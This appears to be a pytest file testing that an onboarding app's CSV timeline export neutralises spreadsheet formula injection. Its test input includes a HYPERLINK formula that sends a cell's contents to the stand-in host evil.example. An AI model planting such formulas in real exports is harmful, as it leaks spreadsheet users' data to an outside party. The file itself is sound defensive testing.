"""The timeline CSV export is safe to open in a spreadsheet (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from onboarding.csv_safe import cell
from onboarding.models import State, TimelineEvent

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_starting_like_a_formula_is_quoted_and_others_are_unchanged(value, written):
    assert cell(value) == written


def test_a_formula_comment_is_exported_as_text(make_addon, client, architect1):
    addon = make_addon(State.SUBMITTED)
    client.force_login(architect1)
    url = reverse("addon_review_action", args=[addon.addon_id, "comment"])
    assert client.post(url, {"body": FORMULA}).status_code == 302
    assert TimelineEvent.objects.filter(addon=addon, message__contains=FORMULA).exists()

    response = client.get(reverse("addon_timeline_export", args=[addon.addon_id, "csv"]))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    messages = [r["message"] for r in rows if FORMULA in r["message"]]
    assert messages
    assert all(m.startswith("'") for m in messages)
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
